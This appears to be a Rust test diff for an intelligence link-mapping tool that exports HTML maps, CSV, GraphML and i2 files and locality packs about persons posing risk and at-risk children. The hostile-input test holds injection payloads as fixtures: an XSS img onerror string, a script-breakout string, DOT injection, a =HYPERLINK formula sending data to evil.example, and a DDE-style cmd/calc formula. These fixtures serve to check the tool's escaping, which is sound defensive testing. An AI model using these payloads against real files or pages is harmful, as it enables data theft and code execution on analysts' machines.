@@ -317,19 +317,65 @@ fn planted_links_become_exactly_the_expected_clusters() {
         .as_str()
         .is_some_and(|d| d.starts_with("2026-10-0")));
 
-    for f in ["map.html", "map.json", "map.dot", "links.csv"] {
+    for f in [
+        "map.html",
+        "map.json",
+        "map.dot",
+        "links.csv",
+        "map.graphml",
+        "i2.csv",
+    ] {
         assert_eq!(mode(&out.join(f)), 0o600, "{f}");
         let text = std::fs::read_to_string(out.join(f)).expect("read");
         assert!(text.contains("OFFICIAL-SENSITIVE"), "{f} is marked");
     }
     let html = std::fs::read_to_string(out.join("map.html")).expect("html");
+    let (markup, script) = split_page(&html);
     for external in ["http://", "https://", "src=", "@import", "url("] {
         assert!(
-            !html.contains(external),
+            !markup.contains(external),
             "map.html requests nothing from outside ({external})"
         );
     }
-    assert!(html.contains("<svg") && html.contains("Hotspots") && html.contains("Timeline"));
+    // The bundled script names the SVG namespace, and no other address.
+    let addresses: BTreeSet<&str> = script
+        .match_indices("http")
+        .map(|(i, _)| script[i..].split('"').next().unwrap_or(""))
+        .filter(|a| a.starts_with("http:") || a.starts_with("https:"))
+        .collect();
+    assert_eq!(
+        addresses,
+        ["http://www.w3.org/2000/svg"].into_iter().collect(),
+        "addresses in the script"
+    );
+    assert!(markup.contains("<svg") && markup.contains("Hotspots") && markup.contains("Timeline"));
+    // The page's data: every entity of this small set, each with its submissions.
+    let data = page_data(&html);
+    let nodes = data["nodes"].as_array().expect("nodes");
+    assert_eq!(Some(nodes.len()), g["entities"].as_array().map(Vec::len));
+    let phone = nodes
+        .iter()
+        .find(|n| n["key"] == "+447700900461")
+        .expect("the shared phone is drawn");
+    let subs = &data["submissions"];
+    let refs: BTreeSet<&str> = phone["subs"]
+        .as_array()
+        .expect("subs")
+        .iter()
+        .map(|i| {
+            subs[i.as_u64().expect("index") as usize][0]
+                .as_str()
+                .expect("ref")
+        })
+        .collect();
+    assert_eq!(
+        refs,
+        ["PIS-A001-0001", "PIS-A001-0002", "PIS-A001-0003"]
+            .into_iter()
+            .collect()
+    );
+    assert_eq!(data["possible"].as_array().map(Vec::len), Some(2));
+
     let csv = std::fs::read_to_string(out.join("links.csv")).expect("csv");
     assert!(csv
         .lines()
@@ -337,6 +383,47 @@ fn planted_links_become_exactly_the_expected_clusters() {
     assert!(std::fs::read_to_string(out.join("map.dot"))
         .expect("dot")
         .starts_with("// OFFICIAL-SENSITIVE\ngraph"));
+
+    // i2 Analyst's Notebook: entity type, identity and label at each end, the link's type,
+    // label and dates.
+    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
+    let mut lines = i2.lines();
+    assert_eq!(
+        lines.next(),
+        Some("entity1_type,entity1_identity,entity1_label,entity2_type,entity2_identity,entity2_label,link_type,link_label,date_from,date_to,references,marking")
+    );
+    let rows: Vec<&str> = lines.collect();
+    assert_eq!(
+        rows.len(),
+        g["links"].as_array().map_or(0, Vec::len) + 2,
+        "one row per link and possible link"
+    );
+    assert!(
+        rows.iter().any(|r| r
+            .starts_with("\"Telephone\",\"phone:+447700900461\",\"'+447700900461\",\"Location\",")
+            && r.contains("\"Named together\",\"1 submission\",\"2026-10-0")),
+        "{i2}"
+    );
+    assert!(
+        rows.iter().any(|r| r.starts_with("\"Person\",\"person:kai brown|2009-01-01\",\"Kai Brown\",\"Person\",\"person:kai brown|2009-02-02\"")
+            && r.contains("\"Possible link\",\"same name, different date of birth\",,,,\"OFFICIAL-SENSITIVE\"")),
+        "{i2}"
+    );
+
+    // GraphML for Gephi and yEd: every entity a node, every link and possible link an edge.
+    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
+    assert!(graphml
+        .starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- OFFICIAL-SENSITIVE -->"));
+    assert_eq!(
+        graphml.matches("<node id=").count(),
+        g["entities"].as_array().map_or(0, Vec::len)
+    );
+    assert_eq!(
+        graphml.matches("<edge id=").count(),
+        g["links"].as_array().map_or(0, Vec::len) + 2
+    );
+    assert!(graphml.contains("<data key=\"link\">possible</data><data key=\"reason\">partial plate matches this registration</data>"));
+    assert!(graphml.trim_end().ends_with("</graph>\n</graphml>"));
 
     // Filters.
     let out2 = dir.path().join("out2");
@@ -362,6 +449,68 @@ fn planted_links_become_exactly_the_expected_clusters() {
         "{}",
         String::from_utf8_lossy(&run.stderr)
     );
+    // The locality's Level 2 pack: the phone seen in both reports, and the week they fell in.
+    let pack = out2.join("level2-SCARBOROUGH.html");
+    assert_eq!(mode(&pack), 0o600);
+    let pack = std::fs::read_to_string(pack).expect("pack");
+    assert!(pack.contains("OFFICIAL-SENSITIVE") && pack.contains("Level 2 pack: SCARBOROUGH"));
+    assert!(section(&pack, "Phones seen in several reports").contains("+447700900461"));
+    assert!(section(&pack, "Vehicles seen in several reports").contains("None in this period"));
+    assert!(section(&pack, "Timeline").contains("2026-09-28</td><td>2</td>"));
+    assert!(!pack.contains("<script"), "the pack runs nothing");
+    assert!(
+        !out.join("level2-SCARBOROUGH.html").exists(),
+        "only with --locality"
+    );
+
+    // Harrogate: the person posing risk, with their links.
+    let out3 = dir.path().join("out3");
+    let (ok, stderr) = run_map(
+        dir.path(),
+        &key_file,
+        &out3,
+        &["--locality", "Harrogate"],
+        &inputs,
+    );
+    assert!(ok, "{stderr}");
+    let pack = std::fs::read_to_string(out3.join("level2-HARROGATE.html")).expect("pack");
+    let risk = section(&pack, "Persons posing risk with the most links");
+    assert!(risk.contains("<td>Tyler Reeve</td>"), "{risk}");
+    assert!(
+        !risk.contains("Sam"),
+        "Sam is not given as posing risk: {risk}"
+    );
+    assert!(section(&pack, "Hotspots").contains("D1 place"));
+}
+
+/// The text from the `<h2>` starting with `heading` to the next `<h2>`.
+fn section<'a>(html: &'a str, heading: &str) -> &'a str {
+    let start = html
+        .find(&format!("<h2>{heading}"))
+        .unwrap_or_else(|| panic!("no section {heading}"));
+    let rest = &html[start + 4..];
+    &rest[..rest.find("<h2>").unwrap_or(rest.len())]
+}
+
+/// map.html without its two script elements, and the bundled script's text.
+fn split_page(html: &str) -> (String, &str) {
+    let open = "<script>";
+    let start = html.find(open).expect("the page's script");
+    let end = start + html[start..].find("</script>").expect("its end");
+    let script = &html[start + open.len()..end];
+    let data_start = html
+        .find("<script type=\"application/json\"")
+        .expect("the data block");
+    let markup = format!("{}{}", &html[..data_start], &html[end..]);
+    (markup, script)
+}
+
+/// The JSON data block of map.html.
+fn page_data(html: &str) -> Value {
+    let open = "<script type=\"application/json\" id=\"map-data\">";
+    let start = html.find(open).expect("data block") + open.len();
+    let end = start + html[start..].find("</script>").expect("its end");
+    serde_json::from_str(&html[start..end]).expect("the data is JSON")
 }
 
 /// Runs `map` over `inputs` into `out`, trusting the example signing key.
@@ -400,6 +549,7 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
     let xss = "<img src=x onerror=alert(1)>";
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
     let dot_break = "x\"]; n0 -- n1 [label=\"owned\nnext";
+    let script_break = "</script><script>alert(3)</script>\u{2028}<!--\u{2029}x";
     let hostile = doc(
         "PIS-H001-0001",
         "professional",
@@ -407,7 +557,8 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
         "SELBY",
         json!({"people": [
             {"role": "PERSON_POSING_RISK", "forename": xss, "aliases_nicknames": formula},
-            {"role": "CHILD_AT_RISK", "forename": dot_break}
+            {"role": "CHILD_AT_RISK", "forename": dot_break},
+            {"role": "ASSOCIATE_OR_PEER", "forename": script_break}
         ], "phones": [{"number": "+44 7700 900123"}], "locations": [place("@SUM(1+1)*cmd|' /C calc'!A0")]}),
     );
     std::fs::write(inputs.join("hostile.age"), seal(&hostile, &key)).expect("write");
@@ -479,6 +630,30 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
     let html = std::fs::read_to_string(out.join("map.html")).expect("html");
     assert!(!html.contains("<img"), "{html}");
     assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
+    // The page's data holds the names as JSON text that cannot end its element: the page has
+    // exactly its own two script elements.
+    assert_eq!(html.matches("<script").count(), 2, "{html}");
+    assert_eq!(html.matches("</script").count(), 2);
+    assert!(!html.contains("<!--"));
+    let block = html
+        .split("id=\"map-data\">")
+        .nth(1)
+        .and_then(|r| r.split("</script>").next())
+        .expect("data block");
+    assert!(
+        !block.contains('\u{2028}') && !block.contains('\u{2029}'),
+        "{block}"
+    );
+    let names: BTreeSet<String> = page_data(&html)["nodes"]
+        .as_array()
+        .expect("nodes")
+        .iter()
+        .filter_map(|n| n["label"].as_str().map(str::to_string))
+        .collect();
+    assert!(
+        names.contains(xss) && names.contains(script_break),
+        "{names:?}"
+    );
     assert!(!html.contains("Intruder Planted") && !html.contains("Unsigned Planted"));
     assert!(!html.contains("Forged Ref"));
     let csp = html
@@ -487,10 +662,26 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
         .and_then(|r| r.split('"').next())
         .expect("a CSP in the page");
     assert!(csp.starts_with("default-src 'none'"), "{csp}");
-    assert!(
-        !csp.contains("unsafe") && !csp.contains("script-src"),
-        "{csp}"
-    );
+    // Scripts only by hash: the one bundled script, nothing written into the page by a
+    // submitter could run; and nothing may load (no img-src, connect-src, …).
+    assert!(!csp.contains("unsafe"), "{csp}");
+    let scripts: Vec<&str> = csp
+        .split(';')
+        .map(str::trim)
+        .filter(|d| d.starts_with("script-src"))
+        .collect();
+    assert_eq!(scripts.len(), 1, "{csp}");
+    assert_eq!(scripts[0].split(' ').count(), 2, "one hash: {csp}");
+    assert!(scripts[0].contains("'sha256-"), "{csp}");
+    for d in [
+        "img-src",
+        "connect-src",
+        "frame-src",
+        "font-src",
+        "media-src",
+    ] {
+        assert!(!csp.contains(d), "{csp}");
+    }
     assert!(
         !html.contains(" style=\""),
         "no style attributes for the CSP to refuse"
@@ -509,6 +700,23 @@ fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst(
     assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
     assert!(csv.contains("\"'+447700900123\""), "{csv}");
     assert!(csv.contains("\"'@SUM(1+1)"), "{csv}");
+    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
+    for line in i2.lines().skip(1) {
+        for cell in line.split("\",\"") {
+            let inner = cell.trim_start_matches('"');
+            assert!(
+                !inner.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell} in {line}"
+            );
+        }
+    }
+    assert!(i2.contains("\"'=HYPERLINK("), "{i2}");
+    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
+    assert!(
+        !graphml.contains("<img") && !graphml.contains("<script"),
+        "{graphml}"
+    );
+    assert!(graphml.contains("&lt;img src=x onerror=alert(1)&gt;"));
 
     let dot = std::fs::read_to_string(out.join("map.dot")).expect("dot");
     assert!(
